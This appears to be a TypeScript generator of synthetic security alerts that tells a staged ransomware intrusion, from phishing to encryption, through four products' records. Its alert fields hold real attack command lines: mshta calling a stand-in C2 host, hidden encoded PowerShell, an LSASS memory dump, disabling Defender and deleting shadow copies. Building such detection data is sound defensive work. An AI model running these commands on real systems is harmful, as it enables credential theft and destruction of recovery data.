import { COMPANY, type Host } from '../company.ts';
import { type ElasticEvent, type ElasticRule, elasticAlert } from '../products/elastic.ts';
import { ocsfFinding } from '../products/ocsf.ts';
import { eveAlert, type Flow, type Signature } from '../products/suricata.ts';
import { syscheckAlert, type WazuhRule, windowsAlert } from '../products/wazuh.ts';
import { elasticRecord, ocsfRecord, type SampleRecord, suricataRecord, wazuhRecord } from '../record.ts';
import type { World } from '../world.ts';
import { INTRUSION_RULES as ELASTIC } from './elastic-rules.ts';
import { ENDPOINT_RULES as WAZUH } from './endpoint-rules.ts';
import { BEACON, EXFILTRATION, SMB_EXECUTABLE } from './intrusion-signatures.ts';

const HOUR_MS = 3_600_000;
const C2 = { ip: '203.0.113.66', name: 'cdn-tariffs.test' };
const DROP = { ip: '198.51.100.140', name: 'files.drop-box.test' };
/** What the loader hashes to wherever it lies, so that the four products can be brought together by it. */
const LOADER_SHA256 = 'd1f0c7a35e9b48261c7754a90be3f8d25a6c1190b7e4483f9a02c6d7715e8b34';

export const INTRUSION = { deskIndex: 188, days: 4, hosts: ['hl-fs01', 'hl-dc01'] } as const;

/** Writes the records of one intruder: who is at which desk, and each product's way of saying one step. */
class Trail {
  readonly records: SampleRecord[] = [];
  private readonly world: World;
  private readonly random: World['random'];

  constructor(world: World) {
    this.world = world;
    this.random = world.random.fork('intrusion');
  }

  /** Hours before the end of the fortnight, with some minutes of unevenness. */
  at(hours: number): number {
    return Math.floor(this.world.fortnight.endsAtMs - hours * HOUR_MS + this.random.int(0, 120_000));
  }

  elastic(hours: number, rule: ElasticRule, event: ElasticEvent): void {
    const atMs = this.at(hours);
    this.records.push(elasticRecord(atMs, elasticAlert(this.random, atMs, rule, event), 'intrusion'));
  }

  windows(hours: number, host: Host, rule: WazuhRule, event: Parameters<typeof windowsAlert>[4]): void {
    const atMs = this.at(hours);
    this.records.push(wazuhRecord(atMs, windowsAlert(this.random, atMs, host, rule, event), 'intrusion'));
  }

  file(hours: number, host: Host, rule: WazuhRule, path: string, owner: string): void {
    const atMs = this.at(hours);
    const alert = syscheckAlert(this.random, atMs, host, rule, { path, event: 'modified', owner });
    this.records.push(wazuhRecord(atMs, alert, 'intrusion'));
  }

  network(hours: number, signature: Signature, flow: Flow): void {
    const atMs = this.at(hours);
    this.records.push(suricataRecord(atMs, eveAlert(this.random, atMs, signature, flow), 'intrusion'));
  }

  finding(hours: number, finding: Parameters<typeof ocsfFinding>[2]): void {
    const atMs = this.at(hours);
    this.records.push(ocsfRecord(atMs, ocsfFinding(this.random, atMs, finding), 'intrusion'));
  }
}

/**
 * Four days from a mail to the first encrypted files, told by four products:
 * T1566.001, T1218.005, T1059.001, T1071.001, T1547.001, T1482, T1003.001, T1021.002, T1003.006, T1560.001, T1041,
 * T1562.001, T1490, T1486. The last steps lie in the last two hours, so it is under way when the sample opens.
 */
export function intrusion(world: World): SampleRecord[] {
  const { company } = world;
  const person = company.employees[INTRUSION.deskIndex];
  if (person === undefined) throw new RangeError('The sample company has too few people for its intrusion.');
  const trail = new Trail(world);
  const desk = person.host;
  arrival(trail, desk, person.account, person.email);
  foothold(trail, desk, person.account);
  spread(trail, world, desk, person.account);
  theft(trail, company.server('hl-fs01'));
  encryption(trail, world);
  return trail.records;
}

function arrival(trail: Trail, desk: Host, account: string, email: string): void {
  trail.finding(95.4, {
    product: { name: 'MailShield', vendor: 'MailShield Example', uid: 'mailshield' },
    ruleId: 'mail.attachment.hta.delivered',
    ruleName: 'Archive with a script was delivered',
    title: 'Archive with a script was delivered before it was found to be bad',
    description: `customs-documents.zip with customs-documents.hta from dispatch@tariff-desk.test to ${email}. Verdict changed after delivery.`,
    severity: 4,
    types: ['Malicious attachment'],
    attacks: [
      {
        tactic: 'TA0001',
        tacticName: 'Initial Access',
        technique: 'T1566.001',
        techniqueName: 'Spearphishing Attachment',
      },
    ],
    device: { hostname: desk.name, ip: desk.ip },
    user: account,
    evidence: {
      email: { from: 'dispatch@tariff-desk.test', to: [email], subject: 'Customs documents missing' },
      file: {
        name: 'customs-documents.hta',
        hashes: [{ algorithm_id: 3, algorithm: 'SHA-256', value: LOADER_SHA256 }],
      },
    },
  });
  const mshta = 'C:\\Windows\\System32\\mshta.exe';
  trail.elastic(94.9, ELASTIC.officeChild, {
    host: desk,
    user: account,
    process: {
      name: 'mshta.exe',
      executable: mshta,
      commandLine: 'mshta.exe "C:\\Users\\Public\\Downloads\\customs-documents.hta"',
      parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
      sha256: LOADER_SHA256,
    },
    reason: `process event with process mshta.exe, parent process OUTLOOK.EXE, by ${account} on ${desk.name}.`,
  });
  trail.windows(94.89, desk, WAZUH.mshtaByOffice, {
    channel: 'Sysmon',
    id: '1',
    data: {
      image: mshta,
      commandLine: 'mshta.exe C:\\Users\\Public\\Downloads\\customs-documents.hta',
      parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
      user: `${COMPANY.windowsDomain}\\${account}`,
      hashes: `SHA256=${LOADER_SHA256.toUpperCase()}`,
    },
    says: 'Process Create: mshta.exe',
  });
  trail.elastic(94.8, ELASTIC.mshta, {
    host: desk,
    user: account,
    process: {
      name: 'mshta.exe',
      executable: mshta,
      commandLine: `mshta.exe https://${C2.name}/t`,
      sha256: LOADER_SHA256,
    },
    network: { src: desk.ip, dst: C2.ip, domain: C2.name },
    category: 'network',
    reason: `network event with process mshta.exe to ${C2.name} on ${desk.name}.`,
  });
}

function foothold(trail: Trail, desk: Host, account: string): void {
  // A beacon a bit more often than hourly, found now and then.
  for (const hours of [94.2, 93.8, 82.7, 66.6, 49.9, 41.4, 26.8, 9.7, 9.3, 6.1, 1.6, 0.4]) {
    trail.network(hours, BEACON, {
      src: desk.ip,
      srcPort: 51_344,
      dst: C2.ip,
      dstPort: 443,
      app: { tls: { sni: C2.name, version: 'TLS 1.2', issuerdn: 'CN=localhost' } },
      appProto: 'tls',
    });
  }
  trail.elastic(93.7, ELASTIC.runKey, {
    host: desk,
    user: account,
    category: 'registry',
    process: {
      name: 'tariffhelper.exe',
      executable: 'C:\\Users\\Public\\tariffhelper.exe',
      commandLine: 'tariffhelper.exe -i',
      sha256: LOADER_SHA256,
    },
    reason: `registry event with process tariffhelper.exe, by ${account} on ${desk.name}.`,
  });
  trail.windows(72.2, desk, WAZUH.encodedPowershell, {
    channel: 'Sysmon',
    id: '1',
    data: {
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      commandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
      parentImage: 'C:\\Users\\Public\\tariffhelper.exe',
      user: `${COMPANY.windowsDomain}\\${account}`,
    },
    says: 'Process Create: powershell.exe',
  });
  trail.elastic(71.8, ELASTIC.discovery, {
    host: desk,
    user: account,
    process: {
      name: 'af.exe',
      executable: 'C:\\Users\\Public\\af.exe',
      commandLine: 'af.exe -f "objectcategory=computer" -csv',
      parent: 'C:\\Users\\Public\\tariffhelper.exe',
    },
    reason: `process event with process af.exe, by ${account} on ${desk.name}.`,
  });
  trail.elastic(48.6, ELASTIC.lsass, {
    host: desk,
    user: account,
    process: {
      name: 'rundll32.exe',
      executable: 'C:\\Windows\\System32\\rundll32.exe',
      commandLine: 'rundll32.exe comsvcs.dll, MiniDump 712 C:\\Users\\Public\\l.bin full',
      parent: 'C:\\Users\\Public\\tariffhelper.exe',
    },
    reason: `process event: LSASS opened by rundll32.exe, by ${account} on ${desk.name}.`,
  });
  trail.windows(48.59, desk, WAZUH.lsassRead, {
    channel: 'Sysmon',
    id: '10',
    data: {
      sourceImage: 'C:\\Windows\\System32\\rundll32.exe',
      targetImage: 'C:\\Windows\\System32\\lsass.exe',
      grantedAccess: '0x1FFFFF',
      sourceUser: `${COMPANY.windowsDomain}\\${account}`,
    },
    says: 'Process accessed: lsass.exe',
  });
}

function spread(trail: Trail, { company }: World, desk: Host, account: string): void {
  const files = company.server('hl-fs01');
  const controller = company.server('hl-dc01');
  const stolen = company.administrators[1]?.adminAccount ?? account;
  for (const hours of [27.5, 27.3, 26.9]) {
    trail.network(hours, SMB_EXECUTABLE, {
      src: desk.ip,
      srcPort: 52_010,
      dst: files.ip,
      dstPort: 445,
      app: { smb: { command: 'SMB2_COMMAND_WRITE', filename: 'ADMIN$\\thsvc.exe' } },
      appProto: 'smb',
    });
  }
  trail.elastic(27.2, ELASTIC.lateral, {
    host: files,
    user: stolen,
    process: {
      name: 'services.exe',
      executable: 'C:\\Windows\\System32\\services.exe',
      commandLine: 'C:\\Windows\\thsvc.exe',
      sha256: LOADER_SHA256,
    },
    network: { src: desk.ip, dst: files.ip, dstPort: 135 },
    reason: `process event with process thsvc.exe started by services.exe, by ${stolen} on ${files.name}.`,
  });
  for (const [hours, host] of [
    [27.19, files],
    [12.4, controller],
  ] as const) {
    trail.windows(hours, host, WAZUH.remoteService, {
      channel: 'System',
      id: '7045',
      data: {
        serviceName: 'thsvc',
        imagePath: '%SystemRoot%\\thsvc.exe',
        accountName: 'LocalSystem',
        user: `${COMPANY.windowsDomain}\\${stolen}`,
        ipAddress: desk.ip,
      },
      says: 'A service was installed in the system. Service Name: thsvc',
    });
  }
  trail.windows(11.9, controller, WAZUH.dcSync, {
    channel: 'Security',
    id: '4662',
    data: {
      subjectUserName: stolen,
      subjectDomainName: COMPANY.windowsDomain,
      properties: '{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}',
      ipAddress: files.ip,
    },
    says: 'An operation was performed on an object: Replicating Directory Changes All.',
  });
}

function theft(trail: Trail, files: Host): void {
  trail.elastic(9.2, ELASTIC.archive, {
    host: files,
    user: 'adm-msikora',
    process: {
      name: '7z.exe',
      executable: 'C:\\ProgramData\\7z.exe',
      commandLine: '7z.exe a -pQ2 -v500m C:\\ProgramData\\c.7z D:\\Share\\Customers',
      parent: 'C:\\Windows\\thsvc.exe',
    },
    reason: `process event with process 7z.exe, by adm-msikora on ${files.name}.`,
  });
  for (const hours of [8.4, 7.7, 7.1, 6.6]) {
    trail.network(hours, EXFILTRATION, {
      src: files.ip,
      srcPort: 53_120,
      dst: DROP.ip,
      dstPort: 443,
      app: { tls: { sni: DROP.name, version: 'TLS 1.3' } },
      appProto: 'tls',
      bytesToServer: 524_288_000,
      bytesToClient: 1_204_000,
    });
  }
  trail.finding(6.5, {
    product: { name: 'Nimbus Watch', vendor: 'Nimbus Example', uid: 'nimbus-watch' },
    ruleId: 'egress-volume-new-destination',
    ruleName: 'Large transfer to a destination never seen before',
    title: 'Large transfer to a destination never seen before',
    description: `2.1 GB in 108 minutes from ${files.name} to ${DROP.name}, first seen today.`,
    severity: 4,
    attacks: [
      {
        tactic: 'TA0010',
        tacticName: 'Exfiltration',
        technique: 'T1041',
        techniqueName: 'Exfiltration Over C2 Channel',
      },
    ],
    device: { hostname: files.name, ip: files.ip },
    evidence: {
      src_endpoint: { ip: files.ip, port: 53_120 },
      dst_endpoint: { ip: DROP.ip, port: 443, hostname: DROP.name },
    },
  });
}

function encryption(trail: Trail, { company }: World): void {
  const files = company.server('hl-fs01');
  const controller = company.server('hl-dc01');
  trail.elastic(1.9, ELASTIC.defender, {
    host: files,
    user: 'adm-msikora',
    process: {
      name: 'sc.exe',
      executable: 'C:\\Windows\\System32\\sc.exe',
      commandLine: 'sc.exe stop WinDefend',
      parent: 'C:\\Windows\\thsvc.exe',
    },
    reason: `process event with process sc.exe, by adm-msikora on ${files.name}.`,
  });
  trail.windows(1.8, controller, WAZUH.logCleared, {
    channel: 'Security',
    id: '1102',
    data: { subjectUserName: 'adm-msikora', subjectDomainName: COMPANY.windowsDomain },
    says: 'The audit log was cleared.',
  });
  trail.windows(1.1, files, WAZUH.shadowsDeleted, {
    channel: 'Sysmon',
    id: '1',
    data: {
      image: 'C:\\Windows\\System32\\vssadmin.exe',
      commandLine: 'vssadmin.exe delete shadows /all /quiet',
      parentImage: 'C:\\Windows\\thsvc.exe',
      user: `${COMPANY.windowsDomain}\\adm-msikora`,
    },
    says: 'Process Create: vssadmin.exe',
  });
  for (const [hours, name] of [
    [0.62, 'contracts-2026.docx'],
    [0.55, 'tariffs.xlsx'],
    [0.41, 'customers.accdb'],
    [0.3, 'payroll-q3.xlsx'],
  ] as const) {
    trail.file(hours, files, WAZUH.manyRenamed, `D:\\Share\\Customers\\${name}.haldlock`, 'adm-msikora');
  }
  for (const hours of [0.5, 0.27]) {
    trail.elastic(hours, ELASTIC.ransomware, {
      host: files,
      user: 'adm-msikora',
      category: 'malware',
      process: {
        name: 'thsvc.exe',
        executable: 'C:\\Windows\\thsvc.exe',
        commandLine: 'thsvc.exe -e D:\\Share',
        sha256: LOADER_SHA256,
      },
      file: { path: 'D:\\Share\\Customers\\READ_ME_HALDLOCK.txt' },
      reason: `malware event with process thsvc.exe, by adm-msikora on ${files.name}.`,
    });
  }
}
